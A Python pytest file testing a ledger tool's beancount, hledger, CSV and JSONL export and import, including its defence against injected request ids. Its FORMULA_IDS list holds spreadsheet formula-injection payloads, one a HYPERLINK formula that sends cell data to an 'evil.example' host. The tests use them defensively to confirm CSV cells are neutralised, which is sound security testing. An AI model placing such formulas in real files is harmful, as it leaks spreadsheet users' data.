"""What is exported is what the ledger says, and the programs it is meant for accept it."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path
from typing import TextIO

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atm.ledger.audit.extract import AccountLine, JournalLine, account_lines, journal_lines
from atm.ledger.audit.read_only import open_read_only
from atm.ledger.commands import Credit, LevelRaise, LogCommand, Open
from atm.ledger.ledger import Ledger
from atm.local_cluster import write_cluster_ini
from atm.office import books
from atm.office.books import beancount_account, hledger_account
from atm.office.main import main
from atm.office.replay import BadFile, read_csv, read_jsonl
from atm.spreadsheet import cell_text, safe_cell
from tests.support.entries import command, logged, time_us
from tests.support.story import RECORDS, write_ledger

HOSTILE_IDS = ['"', "\\", ";", "date:2020-13-77", "[2020-99-99]", "a)b|c,d", "\\\"#!'", "*", "{}"]
FORMULA_IDS = [
    "=1+1",
    "+1",
    "-1",
    "@a",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "'=1",
    "''-",
    "'",
    "'a",
]
Writer = Callable[[list[AccountLine], list[JournalLine], TextIO], None]


def beancount(accounts: list[AccountLine], lines: list[JournalLine], out: TextIO) -> None:
    books.write_beancount(accounts, lines, out, "EUR")


def hledger(accounts: list[AccountLine], lines: list[JournalLine], out: TextIO) -> None:
    books.write_hledger(accounts, lines, out, "EUR")


def test_a_request_id_cannot_be_read_as_something_else(lines: list[JournalLine]) -> None:
    text = io.StringIO()
    hledger([], lines, text)
    assert "; request date%3A2020-13-77\n" in text.getvalue()
    assert "; request %3B\n" in text.getvalue()


def bean_check(file: Path) -> str:
    """Return what beancount complains of."""
    program = Path(sys.executable).with_name("bean-check")
    if not program.exists():
        pytest.skip("BEANCOUNT IS NOT INSTALLED: its format is not tested here (pip install beancount)")
    found = subprocess.run(
        [str(program), "--no-cache", str(file)],
        capture_output=True,
        text=True,
        check=False,
    )
    return "" if found.returncode == 0 else found.stderr or "no reason"


def hledger_check(file: Path) -> str:
    """Return what hledger complains of."""
    if shutil.which("hledger") is None:
        pytest.skip("HLEDGER IS NOT INSTALLED: its format is not tested here (apt-get install hledger)")
    command = ["hledger", "-f", str(file), "check", "--strict", "ordereddates"]
    found = subprocess.run(command, capture_output=True, text=True, check=False)
    return "" if found.returncode == 0 else found.stderr or "no reason"


PROGRAMS = [
    pytest.param(beancount, bean_check, id="beancount"),
    pytest.param(hledger, hledger_check, id="hledger"),
]


@pytest.fixture
def ledger(tmp_path: Path) -> Path:
    """Return a ledger with all that can happen, and request ids that try to be something else."""
    path = write_ledger(tmp_path / "ledger.db")
    with closing(Ledger(path)) as opened:
        first = len(RECORDS) + 1
        commands: list[LogCommand] = [Open(id="o9", account="9-lives.__"), Open(id="o10", account="Alice")]
        commands += [Credit(id=text, account="9-lives.__", amount=1) for text in (*HOSTILE_IDS, *FORMULA_IDS)]
        days_us = 86_400_000_000
        opened.apply([(n, time_us(n) + n * days_us, logged(each)) for n, each in enumerate(commands, first)])
    return path


@pytest.fixture
def lines(ledger: Path) -> Iterator[list[JournalLine]]:
    with open_read_only(ledger) as cursor:
        yield list(journal_lines(cursor))


@pytest.fixture
def accounts(ledger: Path) -> Iterator[list[AccountLine]]:
    with open_read_only(ledger) as cursor:
        yield list(account_lines(cursor))


@pytest.mark.parametrize(("write", "check"), PROGRAMS)
def test_the_program_it_is_for_accepts_it(
    tmp_path: Path,
    accounts: list[AccountLine],
    lines: list[JournalLine],
    write: Writer,
    check: Callable[[Path], str],
) -> None:
    with (tmp_path / "books").open("w") as out:
        write(accounts, lines, out)
    assert check(tmp_path / "books") == ""


@pytest.mark.parametrize(("write", "check"), PROGRAMS)
def test_each_currency_is_a_commodity_with_its_decimals(
    tmp_path: Path, ledger: Path, write: Writer, check: Callable[[Path], str]
) -> None:
    with closing(Ledger(ledger)) as opened:
        first = opened.applied_index + 1
        opened.apply([(first, time_us(first), LevelRaise(2))])
        days_us = 86_400_000_000 * (first + 100)
        entries = [
            logged(command(line))
            for line in (
                *("oj open jo in JPY", "ob open ben in BHD", "oe open eva in EUR", "ok open kay in JPY"),
                *("cj credit jo 1250 in JPY", "cb credit ben 5 in BHD", "ce credit eva 7 in EUR"),
                *("tj transfer jo kay 250 in JPY", "wb write_off cash:BHD 1500 in BHD", "rj reverse tj"),
            )
        ]
        receipts = opened.apply(
            [(n, time_us(n) + days_us, each) for n, each in enumerate(entries, first + 1)]
        )
        assert {each and str(each.outcome) for each in receipts} == {"ok"}
    with open_read_only(ledger) as cursor, (tmp_path / "books").open("w") as out:
        write(list(account_lines(cursor)), list(journal_lines(cursor)), out)
    text = (tmp_path / "books").read_text()
    for amount in (" 1250 JPY", " 0.005 BHD", " 1.500 BHD", " 0.07 EUR"):
        assert amount in text
    assert check(tmp_path / "books") == ""


def test_an_export_of_release_1_1_has_no_columns_for_code_text_and_currency_and_is_read(
    lines: list[JournalLine],
) -> None:
    text = io.StringIO()
    books.write_csv(lines, text)
    without = "".join(line.rsplit(",", 3)[0] + "\n" for line in text.getvalue().splitlines())
    assert list(read_csv(io.StringIO(without))) == lines


@pytest.mark.parametrize(("write", "check"), PROGRAMS)
@pytest.mark.parametrize("wrong", ["balance", "amount", "account"])
def test_the_program_it_is_for_sees_what_is_wrong(
    tmp_path: Path,
    accounts: list[AccountLine],
    lines: list[JournalLine],
    write: Writer,
    check: Callable[[Path], str],
    wrong: str,
) -> None:
    match wrong:
        case "balance":
            accounts[0] = msgspec.structs.replace(accounts[0], balance=accounts[0].balance + 1)
        case "amount":
            lines[3] = msgspec.structs.replace(lines[3], amount=lines[3].amount + 1)
        case _:
            del accounts[0]
    with (tmp_path / "books").open("w") as out:
        write(accounts, lines, out)
    assert check(tmp_path / "books") != ""


def test_the_last_day_of_the_calendar_has_an_assertion_behind_it(
    accounts: list[AccountLine], lines: list[JournalLine]
) -> None:
    last_us = int(datetime(9999, 12, 31, 23, tzinfo=UTC).timestamp()) * 1_000_000
    text = io.StringIO()
    beancount(accounts, [msgspec.structs.replace(lines[0], time_us=last_us)], text)
    assert "\n9999-12-31 balance " in text.getvalue()


@pytest.mark.parametrize(("write", "read"), [(books.write_jsonl, read_jsonl), (books.write_csv, read_csv)])
def test_what_is_exported_is_read_as_it_was(
    lines: list[JournalLine],
    write: Callable[[list[JournalLine], TextIO], None],
    read: Callable[[TextIO], Iterator[JournalLine]],
) -> None:
    text = io.StringIO()
    write(lines, text)
    assert len(lines) == 19 + len(HOSTILE_IDS) + len(FORMULA_IDS)
    assert list(read(io.StringIO(text.getvalue(), newline=""))) == lines


def test_no_cell_of_a_csv_export_is_a_formula_to_a_spreadsheet(lines: list[JournalLine]) -> None:
    """Trial M5: in release 1.1.0 (e233312), a request id such as =HYPERLINK(…) stood in the file as it is."""
    below_zero = msgspec.structs.replace(lines[0], credit_balance=-(2**53))
    text = io.StringIO()
    books.write_csv([*lines, below_zero], text)
    rows = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]
    assert str(-(2**53)) in dangerous, "a number stays a number"
    assert [cell for cell in dangerous if not re.fullmatch(r"-[0-9]{3,}", cell)] == []
    for request_id in FORMULA_IDS[:5]:
        assert f"'{request_id}" in cells


@given(st.text(alphabet="'=+-@\t\r\na1", max_size=6))
def test_a_cell_that_was_made_safe_is_read_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert cell[:1] not in set("=+-@\t\r\n") or not cell
    assert cell_text(cell) == text


@pytest.mark.parametrize(
    ("read", "text", "said"),
    [
        (read_jsonl, "{}\n", "line 1 is no posting: .*posting"),
        (read_jsonl, "hello\n", "line 1 is no posting: .*malformed"),
        (read_csv, "a,b\n1,2\n", "line 1 must name these columns: posting,time_us"),
        (read_csv, ",".join(JournalLine.__struct_fields__) + "\n1,2\n", "line 2 is no posting"),
        (read_csv, ",".join(JournalLine.__struct_fields__) + "\n1" + "," * 20 + "\n", "line 2 is no posting"),
        (
            read_csv,
            ",".join(JournalLine.__struct_fields__) + "\n" + "1" * 200_000 + "\n",
            "is no posting: field larger",
        ),
        (read_csv, "", "line 1 must name these columns"),
    ],
)
def test_a_file_that_is_no_export_is_refused_with_its_line(
    read: Callable[[TextIO], Iterator[JournalLine]], text: str, said: str
) -> None:
    with pytest.raises(BadFile, match=said):
        list(read(io.StringIO(text)))


names = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,6}", fullmatch=True)


@given(names, names)
def test_different_accounts_never_meet_in_another_programs_chart(one: str, other: str) -> None:
    for chart in (beancount_account, hledger_account):
        assert (chart(one) == chart(other)) == (one == other)
    assert re.fullmatch(r"[A-Z][A-Za-z]+(:[A-Z0-9][A-Za-z0-9-]*)+", beancount_account(one))


def test_the_command_exports_a_ledger_in_use(ledger: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with closing(Ledger(ledger)):
        assert main(["export", str(ledger), "--format", "csv"]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert rows[0].startswith("posting,time_us,op,request_id,")
    assert len(rows) == 1 + 19 + len(HOSTILE_IDS) + len(FORMULA_IDS)


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["export", "nowhere.db", "--format", "csv"], 2, "nowhere.db: there is no ledger that can be read"),
        (["export", "--node", "n9", "--format", "csv"], 2, "there is no node 'n9'"),
        (["export", "--format", "csv"], 2, "one of the arguments FILE --node is required"),
        (
            ["export", "x", "--format", "csv", "--commodity", "euro"],
            2,
            "a commodity is 2 to 10 capital letters",
        ),
        (["verify", "nowhere.db"], 2, "nowhere.db: there is no ledger that can be read"),
        (["verify", "--config", "nowhere.ini"], 2, "nowhere.ini"),
        (["import", "nowhere.csv"], 2, "nowhere.csv: No such file or directory"),
        (["import", "x.txt"], 2, "x.txt: the format is unknown: give --format jsonl or --format csv"),
        (["import", "x.journal"], 2, "x.journal: hledger needs --mapping FILE"),
        (["import", "x.csv", "--dry-run"], 2, "--dry-run is for other programs' books, with --mapping"),
        (
            ["import", "x.jsonl", "--mapping", "m.toml"],
            2,
            "the format is unknown: give --format csv or --format hledger",
        ),
        (["import", "x.csv", "--mapping", "nowhere.toml"], 2, "nowhere.toml: No such file or directory"),
        ([], 2, "the following arguments are required: COMMAND"),
    ],
)
def test_a_mistake_gets_one_line(
    arguments: list[str], code: int, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        found = main(arguments)
    except SystemExit as left:
        found = int(str(left.code))
    captured = capsys.readouterr()
    assert (found, captured.out) == (code, "")
    assert said in captured.err
    assert captured.err.count("\n") == 1


def test_a_damaged_ledger_is_not_exported_as_if_it_were_whole(
    ledger: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = ledger.read_bytes()
    ledger.write_bytes(whole[:2048] + bytes(len(whole) - 2048))
    assert main(["export", str(ledger), "--format", "jsonl"]) == 1
    assert "the ledger cannot be read" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("forged", "said"),
    [
        ({"debit_account": "main"}, "accounts differ"),
        ({"reverses": "c1"}, "an id of its own"),
        ({"amount": 10**15}, "line 1 is no posting"),
    ],
)
def test_a_forged_export_is_refused_before_anything_is_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], forged: dict[str, object], said: str
) -> None:
    line = JournalLine(
        posting=64,
        time_us=1,
        op="credit",
        request_id="c1",
        debit_account="cash",
        credit_account="main",
        amount=5,
        debit_balance=-5,
        credit_balance=5,
        reverses=None,
        exception=None,
        hash="00",
    )
    (tmp_path / "books.jsonl").write_bytes(msgspec.json.encode(msgspec.structs.asdict(line) | forged))
    config = write_cluster_ini(tmp_path, 1)  # no node runs
    assert main(["import", str(tmp_path / "books.jsonl"), "--config", str(config)]) == 2
    assert said in capsys.readouterr().err
